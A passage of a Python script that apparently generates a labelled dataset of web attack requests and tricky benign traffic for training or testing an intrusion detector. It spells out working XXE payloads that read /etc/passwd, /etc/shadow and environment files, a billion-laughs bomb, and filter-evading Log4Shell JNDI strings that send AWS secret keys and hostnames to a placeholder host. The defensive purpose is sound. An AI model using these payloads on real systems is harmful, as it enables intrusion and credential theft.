        return (
            '<?xml version="1.0" ?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
            '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]><message>x</message>'
        )
    if kind == 5:
        return '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><lolz>&lol9;</lolz>'
    if kind == 6:
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'%s\')"/></xsl:template></xsl:stylesheet>'
            % f
        )
    if kind == 7:
        return '<?xml version="1.0"?><!DOCTYPE %s SYSTEM "http://%s/x.dtd"><%s><a>1</a></%s>' % (root, h, root, root)
    if kind == 8:
        return '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetBalance><acct>&e;</acct></GetBalance></soap:Body></soap:Envelope>'
    if kind == 9:
        return '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&x;</text></svg>'
    if kind == 10:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]><r>&e;</r>'
    if kind == 11:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "jar:http://%s/x.zip!/payload.txt">]><r>&e;</r>' % h
    if kind == 12:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "netdoc:///etc/passwd">]><r>&e;</r>'
    if kind == 13:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://' + h + '/oob.dtd"> %d;]><r>&send;</r>'
    if kind == 14:
        return '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-foo+AD4-+ACY-xxe+ADs-+ADw-/foo+AD4-'
    if kind == 15:
        return (
            '<?xml version="1.0"?>\n<!DOCTYPE\tr\tPUBLIC\t"-//OASIS//DTD DocBook V4.5//EN"\t"http://%s/docbook.dtd"\n>\n<r/>'
            % h
        )
    if kind == 16:
        return (
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'http://'
            + h
            + "/?x=1'>\"> %a; %b;]><r/>"
        )
    if kind == 17:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:/etc/passwd">]><r>&e;</r>'
    if kind == 18:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file://localhost/etc/shadow">]><r><![CDATA[x]]>&e;</r>'
    if kind == 19:
        return '\ufeff<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % p1 SYSTEM "gopher://127.0.0.1:6379/_INFO">%p1;]><r/>'
    if kind == 20:
        return (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
            "<xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','%s')\"/></xsl:template></xsl:stylesheet>"
            % fill("§C")
        )
    return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "https://%s/probe">]><r>&e;</r>' % h


XINC = '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'
XXE_N = [("xd", lambda k=k: xxe_doc(k)) for k in (0, 1, 2, 3, 4, 5, 6, 7, 8, 10, 11, 12, 13, 21)] + [
    ("mf", lambda: xxe_doc(9), {"fn": "avatar.svg", "fct": "image/svg+xml"}),
    ("mf", lambda: xxe_doc(0), {"fn": "import.xml", "fct": "text/xml"}),
    ("f q j", XINC, {"pn": "productId"}),
    ("f j", lambda: xxe_doc(0), {"pn": "xml"}),
    ("x", XINC),
    ("q", lambda: xxe_doc(1), {"pn": "feed"}),
]
XXE_H = [("xd", lambda k=k: xxe_doc(k)) for k in (14, 15, 16, 17, 18, 19, 20)] + [
    ("xd", lambda: xxe_doc(0).replace("SYSTEM", 'PUBLIC "-//W3C//DTD XHTML 1.0//EN"')),
    (
        "xd",
        lambda: (
            '<?xml version="1.0"?><!DOCTYPE r [\n  <!ENTITY\n    %%   ext\n    SYSTEM\n    "http://%s/a.dtd">\n  %%ext;\n]>\n<r/>'
            % fill("§H")
        ),
    ),
    ("j", lambda: xxe_doc(0), {"enc": "u", "pn": "xmlPayload"}),
    ("f", lambda: b64(xxe_doc(2)), {"pn": "SAMLResponse"}),
    ("mf", lambda: xxe_doc(17), {"fn": "sitemap.xml", "fct": "application/xml"}),
    ("q", XINC, {"enc": "full", "pn": "productId"}),
    ("m", XINC.replace('parse="text" ', 'parse="text"\n ')),
    (
        "xd",
        lambda: (
            '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE r [<!ENTITY e SYSTEM "fi'
            + 'le:///proc/self/environ">]><r>&e;</r>'
        ),
    ),
    (
        "mf",
        lambda: (
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://%s/docx">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>'
            % fill("§H")
        ),
        {"fn": "document.xml", "fct": "application/xml"},
    ),
    (
        "xd",
        lambda: (
            '<!DOCTYPE r [<!ENTITY % x SYSTEM "data://text/plain;base64,'
            + b64('<!ENTITY e SYSTEM "file:///etc/passwd">')
            + '"> %x;]><r>&e;</r>'
        ),
    ),
    ("xd", lambda: '<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///dev/random"><r/>'),
    ("f", lambda: xxe_doc(13), {"enc": "full", "pn": "xml"}),
]


def l4j(h=None):
    return "${jndi:ldap://%s/%s}" % (h or fill("§H:1389"), tok(5))


L4J_N = [
    ("h q f j c m x p", "${jndi:ldap://§H:1389/a}"),
    ("h q f j", "${jndi:rmi://§H:1099/Exploit}"),
    ("h q j", "${jndi:dns://§H/§R}"),
    ("h f j", "${jndi:ldaps://§H/o}"),
    ("h q", "${jndi:iiop://§H/x}"),
    ("h j", "${jndi:corba://§H/x}"),
    ("h q", "${jndi:nis://§H/x}"),
    ("h j", "${jndi:nds://§H/x}"),
    ("h q", "${jndi:http://§H/x}"),
    ("h j", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.§H/a}"),
    ("h q f", "${jndi:ldap://${sys:java.version}.§H/v}"),
    ("h j", "${jndi:ldap://${hostName}.§H/h}"),
    ("h", "${jndi:ldap://127.0.0.1#§H:1389/a}"),
    ("jk", "${jndi:ldap://§H/k}"),
    ("qk", "${jndi:ldap://§H/qk}"),
    ("mfn", "${jndi:ldap://§H/f}.pdf"),
    ("c", "${jndi:ldap://§H/c}"),
    ("j", "Order arrived damaged ${jndi:ldap://§H/t}"),
    ("h", "${jndi:ldap://§H/auth}", {"hdr": "Authorization", "hpre": "Bearer "}),
    ("x", "${jndi:rmi://§H/x}"),
]
L4J_H = [
    ("h q f j", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://§H/a}"),
    ("h q f j", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://§H/a}"),
    ("h q j", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://§H/a}"),
    ("h q f j", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//§H/a}"),
    ("h j", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://§H/a}"),
    ("h q", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://§H/a}"),
    ("h q f", "${jnd${upper:\u0131}:ldap://§H/a}"),
    ("h q j", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://§H/a}"),
    ("q f", "%24%7Bjndi:ldap://§H/a%7D"),
    ("j", "${jndi:ldap://§H/a}", {"enc": "u"}),
    ("x", "${jndi:ldap://§H/a}", {"enc": "ref"}),
    ("q", "${jndi:ldap://§H/a}", {"enc": "full"}),
    ("c", "${jndi:ldap://§H/a}", {"enc": "full"}),
    ("h j", "${${lower:${lower:jndi}}:${lower:ldap}://§H/a}"),
    ("h q", "${j${::-n}di:${::-r}mi://§H/a}"),
    ("h f", "${${sys:nope:-j}${sys:nope:-n}${sys:nope:-d}${sys:nope:-i}:dns://§H/x}"),
    ("h q", "${jndi:${lower:L}${lower:D}${lower:A}${lower:P}://§H/a}"),
    ("h j", "${jNdI:lDaP://§H/a}"),
    ("p", "${jndi:ldap://§H/a}", {"enc": "full"}),
    ("h", "${jndi:dns://${env:USER}.${env:HOSTNAME}.§H/x}", {"hdr": "X-Api-Version"}),
    ("j", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//§H/a}", {"deep": True}),
]

TEMPLATES = {
    "java_injection": (JAVA_N, JAVA_H),
    "php_injection": (PHP_N, PHP_H),
    "code_injection": (CI_N, CI_H),
    "rfi": (RFI_N, RFI_H),
    "ssrf": (SSRF_N, SSRF_H),
    "rce": (RCE_N, RCE_H),
    "sqli": (SQLI_N, SQLI_H),
    "nosqli": (NOSQL_N, NOSQL_H),
    "ldapi": (LDAP_N, LDAP_H),
    "ssti": (SSTI_N, SSTI_H),
    "crlf": (CRLF_N, CRLF_H),
    "mail_injection": (MAIL_N, MAIL_H),
    "xss": (XSS_N, XSS_H),
    "path_traversal": (PT_N, PT_H),
    "xxe": (XXE_N, XXE_H),
    "log4shell": (L4J_N, L4J_H),
}
RAW_ENC = {
    "q": "full",
    "qk": "full",
    "f": "full",
    "fk": "full",
    "c": "full",
    "p": "full",
    "j": "u",
    "jk": "u",
    "x": "ref",
}

NOSQL_H.append(("j", "COUCH"))


def realize(tp):
    if callable(tp):
        return tp()
    if tp.startswith("JSON:"):
        return fill_obj(json.loads(tp[5:]))
    return fill(tp)


def fill_obj(o):
    if isinstance(o, dict):
        return {k: fill_obj(v) for k, v in o.items()}
    if isinstance(o, list):
        return [fill_obj(v) for v in o]
    return fill(o) if isinstance(o, str) else o


def fill_opts(o):
    out = {}
    for k, v in o.items():
        if isinstance(v, str):
            out[k] = fill(v) if k not in ("val",) or "§" in v else v
        elif isinstance(v, list):
            out[k] = [tuple(fill(x) if isinstance(x, str) else x for x in it) for it in v]
        else:
            out[k] = v
    return out


def gen_attacks():
    rows = []
    for cat, (ntpl, htpl) in TEMPLATES.items():
        seen = set()
        used = {}
        idx = 0
        for hard, tpls, n in ((False, ntpl, 30), (True, htpl, 20)):
            order = list(range(len(tpls)))
            R.shuffle(order)
            k = made = 0
            while made < n:
                t = tpls[order[k % len(order)]]
                k += 1
                if t[1] == "COUCH":
                    name = "u" + tok(6)
                    sp = dict(
                        method="PUT",
                        host="db.taskforge.io",
                        path="/_users/org.couchdb.user:" + name,
                        query="",
                        body=COUCH_BODY % (name, tok(10)),
                        ctype="application/json",
                        hdrs=[],
                        ua=None,
                        acc=None,
                        placement="json",
                        payload='["_admin"]',
                    )
                    idx += 1
                    made += 1
                    rows.append(mkrow("attack", cat, idx, sp, hard))
                    continue
                codes = t[0].split()
                o = fill_opts(t[2]) if len(t) > 2 else {}
                payload = realize(t[1])
                cands = [c for c in codes if feasible(c, payload)]
                if not cands:
                    continue
                R.shuffle(cands)
                code = min(cands, key=lambda c: used.get(c, 0))
                key = (payload if isinstance(payload, str) else cjson(payload), code)
                if key in seen and k < 6 * len(tpls) + n:
                    continue
                seen.add(key)
                used[code] = used.get(code, 0) + 1
                if "enc" in o:
                    enc = o["enc"]
                elif hard and code in RAW_ENC and R.random() < 0.3:
                    enc = RAW_ENC[code]
                else:
                    enc = ch(["std", "min"])
                if enc == "full" and code not in ("q", "qk", "f", "fk", "c", "p"):
                    enc = RAW_ENC.get(code, "std")
                host, paths = ch(APPS)
                path = o.get("path") or ch(paths)
                pn = o.get("pn") or ch(PN[cat])
                if code == "h" and "hdr" not in o:
                    o["hdr"] = ch(HDR[cat])
                if code in ("j", "jk") and "deep" not in o and R.random() < 0.12:
                    o["deep"] = True
                if (
                    code == "j"
                    and isinstance(payload, str)
                    and cat in ("xss", "ssti", "log4shell", "sqli")
                    and not hard
                    and R.random() < 0.25
                ):
                    payload = LONG_TEXT + " " + payload
                sp = embed(code, payload, host, path, pn, enc, o)
                idx += 1
                made += 1
                rows.append(mkrow("attack", cat, idx, sp, hard))
    return rows


# ---------------------------------------------------------------- benign traffic
def iso():
    return "2024-%02d-%02dT%02d:%02d:%02dZ" % (ri(1, 12), ri(1, 28), ri(0, 23), ri(0, 59), ri(0, 59))


def B(code, payload, host, path, pn="q", **o):
    enc = o.pop("enc", "std" if R.random() < 0.6 else "min")
    if code in ("j", "jk", "x", "h", "m", "mf", "mfn", "mn", "xd"):
        enc = o.get("jenc", "std")
    return embed(code, payload, host, path, pn, enc, o)


def pick(pool):
    return ch(pool)


# gaming
G_HOST = ["play.pixelarena.gg", "api.questforge.net"]
CHAT = [
    "gg wp everyone",
    "anyone up for ranked duo? need a support main",
    "lf2m for the raid tonight 9pm EST",
    "brb, pizza's here",
    "that last round was insane",
    "can someone trade me 20 iron ingots?",
    "who's streaming the finals tomorrow?",
    "nice shot!",
    "we need to rotate to B earlier",
    "thanks for the revive",
    "is the new patch live on EU yet",
    "add me, same name as here",
    "what's the drop rate on the dragon mount?",
    "queue times are rough today",
    "one more game then I'm off to bed",
]
CHAT_H = [
    "<3 <3 ty for the carry </3 for my aim tho",
    "select your role & drop in, we start at 9 -- don't be late",
    "type /kick @ClanSpammer if he keeps spamming",
    "use /tp @s ~ ~10 ~ to get unstuck from the wall",
    "gg ez... jk <3 rematch? best of 3, 2>1",
    "lmao he named his team 'Union Select' like a SQL nerd",
    "who's admin in this guild, need officer perms for the bank",
    "'; gg ;' -- my keyboard is broken sorry",
    "script kiddies in lobby again, report & move on",
    "/execute as @a at @s run particle minecraft:heart ~ ~1 ~",
    "cmd+shift+4 for screenshots on mac btw",
    "drop table? nah we drop at Pleasant Park",
    "1=1 trade, no scams pls",
    "%appdata%/.minecraft/mods is where the jars go",
    "<-- that guy is cracked",
    "&& then we push mid || we lose",
]
UNAMES = [
    "ShadowFox_27",
    "NightOwl",
    "pixel_panda",
    "Sir_Lags_Alot",
    "QuickScope99",
    "MossyRock",
    "TurboTurtle",
    "LunaBlade",
    "KappaKing",
    "FrostByte",
]
UNAMES_H = [
    "<Ghost>",
    "Null&Void",
    "x<3y",
    "{Kn1ght}",
    "O'Connor_Gaming",
    "[TTV]Rick_Roll",
    "~*Sp4rkl3*~",
    "-=Wolf=-",
    "Ze|ro",
    "DROP_Bear",
    "$ilver$urfer",
    "Mr.Select",
    "__init__",
    "#1Sniper",
    "Alert(1)Andy",
    "../Neo",
]
MODS = [
    "Better Foliage",
    "SkyUI",
    "Immersive Armors 1.20.1",
    "JEI",
    "Sodium",
    "Waystones",
    "Create mod addons",
    "Unofficial Skyrim Patch",
    "Better Dungeons",
    "Xaero's Minimap",
]
MODS_H = [
    "Script Extender (SKSE64) <v2.2.6>",
    "Exec's Better Combat",
    "JS Loader [BETA] & Patches",
    "../Legacy Textures Pack",
    "${PLAYER} Nametags",
    "<Insert Mod Name> Template",
    "Shell Shock: Artillery Overhaul",
    "Eval Tweaks | select perks",
    "Union of Kingdoms (UoK)",
    "cmd.exe-style Console Plus",
]


def gaming(hard):
    h = ch(G_HOST)
    k = ri(0, 6)
    if k == 0:
        msg = ch(CHAT_H if hard else CHAT)
        return B(
            "j",
            msg,
            h,
            "/api/chat/send",
            obj={"channel": ch(["global", "team", "guild", "trade"]), "message": MARK, "sentAt": iso()},
        )
    if k == 1:
        name = ch(UNAMES_H if hard else UNAMES)
        if R.random() < 0.35:
            return B("p", name, h, "/api/players", ptpl="/api/players/{P}/profile")
        return B(
            ch(["f", "q", "j"]),
            name,
            h,
            ch(["/account/register", "/api/players/search", "/api/friends/add"]),
            "username",
        )
    if k == 2:
        mod = ch(MODS_H if hard else MODS)
        return B(
            "q",
            mod,
            h,
            "/api/mods/search",
            "q",
            q=[kv("game", ch(["skyrim-se", "minecraft", "stardew"])), kv("sort", "downloads")],
        )
    if k == 3:
        if hard:
            cmd = ch(
                [
                    "/execute if entity @p[scores={kills=10..}] run say GG",
                    '/give @p minecraft:diamond_sword{Enchantments:[{id:"sharpness",lvl:5}]} 1',
                    "/summon minecraft:creeper ~ ~1 ~ {powered:1b}",
                    "/scoreboard players set @a[team=red] score 0",
                    '/tellraw @a {"text":"Server restart in 5 min","color":"red"}',
                ]
            )
            return B("j", cmd, h, "/api/server/%d/console" % ri(100, 999), obj={"command": MARK, "as": "operator"})
        stats = {
            "kills": ri(0, 30),
            "deaths": ri(0, 20),
            "assists": ri(0, 25),
            "headshot_pct": round(R.random() * 60, 1),
            "mvp": R.random() < 0.2,
        }
        return B(
            "j",
            stats,
            h,
            "/api/matches/%d/stats" % ri(10**6, 10**7),
            obj={"player": ch(UNAMES), "stats": MARK, "map": ch(["Dust", "Harbor", "Ridge"])},
        )
    if k == 4:
        tag = (
            ch(["WOLF", "N1NJ", "RKT", "PXL", "OWLS"])
            if not hard
            else ch(["<3HUGS", "&CO", "'N'", "-_-", "$$$", "{GG}", "#ONE"])
        )
        return B(
            "j",
            tag,
            h,
            "/api/clans/join",
            obj={"clan_tag": MARK, "message": ch(["hi, can I join?", "lvl 80 healer, active daily"])},
        )
    if k == 5:
        if hard:
            cont = (
                '[mod]\nmodId = "betternametags"\nversion = "${file.jarVersion}"\ndisplayName = "Better Nametags"\n'
                "description = '''Shows ${player.name} & <rank> above heads.\nUse /nametag reload after edits.'''\n"
                '[[dependencies.betternametags]]\nmodId = "forge"\nversionRange = "[47,)"\n'
            )
            return B("mf", cont, h, "/api/mods/upload", fn="mods.toml", fct="application/toml")
        cont = "name: %s\nversion: %d.%d.%d\nauthor: %s\nsupported_versions:\n  - 1.20.1\n  - 1.20.4\n" % (
            ch(MODS),
            ri(1, 4),
            ri(0, 9),
            ri(0, 20),
            ch(UNAMES),
        )
        return B("mf", cont, h, "/api/mods/upload", fn="mod.yml", fct="application/x-yaml")
    mode = ch(["ranked-solo", "ranked-duo", "casual", "arena-3v3", "battle-royale"])
    if hard:
        mode = ch(
            [
                "1v1 <=1500 elo",
                "2v2 (no-items) & no-lag",
                "any% glitchless < 1:00:00",
                "top 100 || friends",
                "season=12;region=eu",
            ]
        )
    return B(
        "q",
        mode,
        h,
        "/api/leaderboard",
        "mode",
        q=[kv("season", str(ri(5, 14))), kv("region", ch(["eu-west", "na-east", "asia"])), kv("page", str(ri(1, 9)))],
    )


# real estate
RE_HOST = ["www.homefinder-realty.com", "api.openhouse.io"]
CITIES = ["Austin, TX", "Portland, OR", "Raleigh, NC", "Boise, ID", "Tampa, FL", "Madison, WI", "Denver, CO"]
STREETS = ["Oak Street", "Maple Ave", "Willow Ln", "Cedar Ct", "Lakeview Dr", "Harbor Blvd", "Elm St"]
RE_DESC = [
    "Charming 3 bed, 2 bath bungalow with updated kitchen and fenced backyard.",
    "Bright corner unit close to transit, in-unit laundry, one parking spot included.",
    "Move-in ready ranch on a quiet cul-de-sac; new roof 2022.",
    "Spacious townhome with attached 2-car garage and community pool.",
]
RE_DESC_H = [
    "Living room 12'6\" x 14'3\", primary bedroom 13' x 11'9\"; ceilings 9' throughout.",
    "HOA < $200/mo & pets OK; no rental cap -- seller's disclosure: sold 'as-is'.",
    "Lot 7, Block 3, of SUNNYSIDE ADDITION, according to the plat thereof recorded in Plat Book 12, Page 45; "
    "thence N 89\u00b059'00\" E 125.00 ft; thence S 00\u00b001'00\" E 80.00 ft to the POINT OF BEGINNING.",
    "<p><b>Open House</b> Sat 1&ndash;4pm</p><ul><li>Quartz counters</li><li>Heated floors</li></ul>",
    "Select Realty Group | Union Square office -- call or drop by Tues/Thurs.",
    "Parcel ID 12-34-567-890; SE 1/4 of NW 1/4, Sec. 14, T2N, R3W; approx. 0.25 ac (10,890 sq ft).",
    "Garage door opener code & lockbox: ask agent. Showings <= 30 min, shoes off please!",
    "Unit #4B -- rear entrance; bsmt 8'2\" clear; sump pump (2021) & radon mitigation.",
]
ADDR_H = [
    "1250 O'Farrell St #4B",
    "1/2 Main St -- Rear Unit",
    "742 Evergreen Terrace; Unit C",
    '12 "The Oaks" Ct',
    "Lot 1 & 2, Block 5 Ridge Rd",
    "4000 E Union Select Blvd",
    "PO Box 77 <c/o Smith>",
]


def realestate(hard):
    h = ch(RE_HOST)
    k = ri(0, 5)
    if k == 0:
        city = ch(CITIES)
        return B(
            "q",
            city,
            h,
            "/api/listings/search",
            "location",
            q=[
                kv("min_price", str(ri(2, 6) * 50000)),
                kv("beds", str(ri(1, 4)) + "+"),
                kv("type", ch(["house", "condo", "townhouse"])),
            ],
        )
    if k == 1:
        d = ch(RE_DESC_H if hard else RE_DESC)
        if R.random() < 0.7:
            d = d + ch(
                [
                    " Approx. %d sq ft." % ri(700, 3500),
                    " Built %d." % ri(1950, 2023),
                    " Taxes ~$%d/yr." % ri(2000, 12000),
                    " MLS #%d." % ri(10**6, 10**7),
                ]
            )
        return B(
            "j",
            d,
            h,
            "/api/listings/%d" % ri(10**5, 10**6),
            obj={
                "price": ri(200, 900) * 1000,
                "beds": ri(1, 5),
                "baths": ri(1, 4) + 0.5 * ri(0, 1),
                "sqft": ri(700, 3500),
                "description": MARK,
            },
            meth=ch(["PUT", "PATCH"]),
        )
    if k == 2:
        a = ch(ADDR_H) if hard else "%d %s" % (ri(10, 9999), ch(STREETS))
        return B("q", a, h, "/api/geo/autocomplete", "address", q=[kv("country", "US")])
    if k == 3:
        msg = ch(
            [
                "Hi, is this still available? We'd like a showing this weekend.",
                "Can you send the disclosure packet and HOA docs?",
                "Pre-approved up to 450k, flexible on closing date.",
            ]
        )
        if hard:
            msg = ch(
                [
                    "Is the 2nd bedroom really 10' x 11'? Listing says 10'6\" -- which is it?",
                    "We'd offer <= $415k & close in 30 days; inspection contingency only.",
                    "Please select a time: Sat 10-12 or Sun 2-4 (or drop me a line).",
                ]
            )
        msg += ch(["", " Thanks, %s" % ch(["Dana", "Chris", "Alex", "Sam"]), " (listing #%d)" % ri(10**5, 10**6)])
        return B(ch(["f", "m"]), msg, h, "/contact-agent", "message")
    if k == 4:
        flt = {
            "city": ch(CITIES),
            "price": {"min": ri(1, 4) * 100000, "max": ri(5, 9) * 100000},
            "beds": {"gte": ri(1, 3)},
            "features": R.sample(["garage", "pool", "fireplace", "basement", "view"], 2),
        }
        if hard:
            flt = {
                "where": {"and": [{"price": {"lte": ri(3, 8) * 100000}}, {"sqft": {"gt": 1200}}]},
                "select": ["id", "address", "price"],
                "order": "price ASC",
            }
        return B("j", flt, h, "/api/saved-searches", obj={"name": "My search", "filter": MARK, "notify": True})
    leg = (
        ch(RE_DESC_H[2:3] + RE_DESC_H[5:6])
        if hard
        else "Lot %d, Block %d, %s Subdivision"
        % (ri(1, 40), ri(1, 9), ch(["Meadow Ridge", "Stone Creek", "Harbor View"]))
    )
    return B(
        ch(["x", "j"]),
        leg,
        h,
        "/api/closings/%d/deed" % ri(1000, 9999),
        "legalDescription",
        xmlb='<?xml version="1.0" encoding="UTF-8"?><deed><grantor>Jane Roe</grantor><grantee>John Doe</grantee><legalDescription>'
        + MARK
        + "</legalDescription></deed>",
    )


# recipes
RC_HOST = ["www.kitchenlog.net", "api.recipebox.app"]
ING = [
    "1 1/2 cups all-purpose flour",
    "2 large eggs",
    "3/4 cup sugar",
    "1 tsp vanilla extract",
    "200 g dark chocolate",
    "2 tbsp olive oil",
    "1/2 tsp salt",
    "400 ml coconut milk",
    "3 cloves garlic, minced",
]
STEPS = [
    "Whisk the dry ingredients together.",
    "Fold in the chocolate chips.",
    "Simmer for 20 minutes, stirring occasionally.",
    "Let rest 10 minutes before slicing.",
    "Preheat the oven to 180\u00b0C.",
]
STEPS_H = [
    "Bake at 350\u00b0F (175\u00b0C) until internal temp > 165\u00b0F & juices run clear.",
    "Mix salt & pepper; set aside < 10 min or it gets soggy.",
    "Pre-heat to 425'F -- don't (I repeat: don't) open the door!",
    "Ratio is 1:2 rice to water; if using brown rice, 1 < ratio < 2.5 works.",
    "Combine <wet> & <dry> separately, then fold; /* don't overmix */",
    "Sift 1 1/2 c. flour || use 1 1/3 c. cake flour; cream butter & sugar ~3-4 min.",
    "Top with S'mores & drizzle; serve warm <3",
    'Cut into 1" x 1" cubes; marinate >= 2 hrs (overnight = best).',
]
TITLES = [
    "Banana Bread",
    "Thai Green Curry",
    "Lemon Drizzle Cake",
    "Shakshuka",
    "Chicken Tikka Masala",
    "Overnight Oats",
]
TITLES_H = [
    "Mac 'n' Cheese",
    "S'mores Bars",
    "Chicken & Waffles <3",
    'Grandma\'s "Secret" Sauce',
    "Salt & Vinegar Crisps",
    "Pi\u00f1a Colada (1/2 batch)",
    "Eval's Famous Chili",
    "Union Square Caf\u00e9 Nuts",
    "Drop Scones",
]


def recipes(hard):
    h = ch(RC_HOST)
    k = ri(0, 5)
    if k == 0:
        ings = (
            R.sample(ING, 4)
            if not hard
            else [
                ch(
                    [
                        "1 1/2 cups flour (or < 2 if humid)",
                        "1/4 tsp cayenne (optional; <1/8 for kids)",
                        "2 eggs @ room temp",
                        "Salt & pepper, to taste",
                        '3-4 "glugs" of olive oil',
                        "1 (14 oz.) can tomatoes",
                    ]
                )
                for _ in range(3)
            ]
        )
        return B(
            "j",
            ings,
            h,
            "/api/recipes",
            obj={"title": ch(TITLES), "servings": ri(2, 8), "ingredients": MARK, "tags": ["dinner"]},
        )
    if k == 1:
        st = ch(STEPS_H if hard else STEPS)
        if R.random() < 0.7:
            st = (
                ch(["Step %d: " % ri(1, 9), "", "Then: ", "Finally, "])
                + st
                + ch(["", " (about %d min)" % ri(2, 40), " Serves %d." % ri(2, 8)])
            )
        return B(
            "j",
            st,
            h,
            "/api/recipes/%d/steps/%d" % (ri(100, 9999), ri(1, 9)),
            obj={"text": MARK, "timerMinutes": ri(0, 45)},
            meth="PUT",
        )
    if k == 2:
        q = ch(
            [
                "gluten free banana bread",
                "vegan lasagna",
                "quick weeknight pasta",
                "air fryer wings",
                "sourdough starter",
            ]
        )
        if hard:
            q = ch(
                [
                    "mac & cheese -boxed",
                    '"brown butter" cookies',
                    "chicken OR tofu stir fry",
                    "cake < 30 min",
                    "s'mores dip",
                    "1/2 batch pancakes",
                ]
            )
        return B("q", q, h, "/search", "q", q=[kv("diet", ch(["any", "vegetarian"]))])
    if k == 3:
        t = ch(TITLES_H if hard else TITLES) + ch(
            ["", "", " (v%d)" % ri(2, 5), " for %d" % ri(2, 12), " - easy", " [gluten-free]" if hard else " GF"]
        )
        return B(ch(["f", "j"]), t, h, "/api/recipes/new", "title")
    if k == 4:
        c = ch(
            [
                "Made this twice, family loved it!",
                "Used honey instead of sugar, turned out great.",
                "Too salty for me, will halve next time.",
            ]
        )
        if hard:
            c = ch(
                [
                    "5/5 -- used 1/2 the sugar & it was still sweet. Oven at 350'F, 25 min.",
                    "<b>Tip:</b> add lime zest!",
                    "Can I sub butter -> oil 1:1? (select brands only?)",
                ]
            )
        c += ch(["", " -- %s" % ch(["Kim", "Raj", "Sofia", "Ben"]), " Rating: %d/5" % ri(3, 5)])
        return B(ch(["f", "m"]), c, h, "/recipes/%d/comments" % ri(100, 9999), "comment")
    temp = "%d\u00b0F" % ch([325, 350, 375, 400, 425])
    if hard:
        temp = ch(["350'F / 175'C", "> 165\u00b0F internal", "gas mark 4 (~180\u00b0C)", "low & slow: 225-250\u00b0F"])
    return B("q", temp, h, "/api/convert", "temp", q=[kv("to", "C")])


# hr
HR_HOST = ["hr.talentloop.com", "jobs.staffly.io"]
JOBS = [
    "Senior Backend Engineer",
    "Payroll Specialist",
    "Customer Success Manager",
    "Data Analyst",
    "IT Support Technician",
]
SKILLS_H = [
    "C#, SQL, bash, PowerShell, LDAP/Active Directory, Windows Server",
    "Java (Spring, Struts 2 migration), JSP, OGNL-free templates, Maven",
    "Python, Jinja2 ({{ }} templating), Flask, SQLAlchemy, cron",
    "Experience writing SQL (SELECT, JOIN, UNION, window functions) and shell scripts (grep | awk | sed)",
